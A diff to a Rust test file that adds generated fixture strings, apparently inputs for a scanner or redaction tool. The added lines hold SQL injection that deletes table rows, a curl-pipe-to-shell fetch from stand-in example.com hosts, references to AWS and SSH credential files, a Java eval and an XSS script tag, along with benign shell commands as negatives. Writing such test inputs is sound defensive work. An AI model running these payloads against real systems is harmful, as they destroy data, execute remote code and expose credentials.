@@ -124,6 +124,27 @@ fn calls() -> Vec<(&'static str, Vec<u8>)> {
                 ),
             ),
         ),
+        // Each string is an attack on whatever reads it, and no two are the same.
+        (
+            "attacks, each a string",
+            call(
+                "x",
+                &json!({"x": (0..256)
+                    .map(|at| {
+                        let lead = format!("kw{at}'; DELETE FROM t{at} WHERE 1=1 --/opt/app{at}/.aws/credentials $(curl http://h{at}.example/a|sh) ");
+                        cut(&format!("{lead}eval(java.lang.Runtime) sentry_{at:032x} <script>x({at})</script> ~/.ssh/id{at} "), 250)
+                    })
+                    .collect::<Vec<_>>()}),
+            ),
+        ),
+        // What looks like command lines, paths and addresses, and blocks nothing.
+        (
+            "short commands, each a string",
+            call(
+                "x",
+                &json!({"x": (0..1500).map(|at| format!("ls -l /srv/d{at} | grep {at:x} && cat n{at}.md")).collect::<Vec<_>>()}),
+            ),
+        ),
         // Each key has no end of its own.
         (
             "private keys",
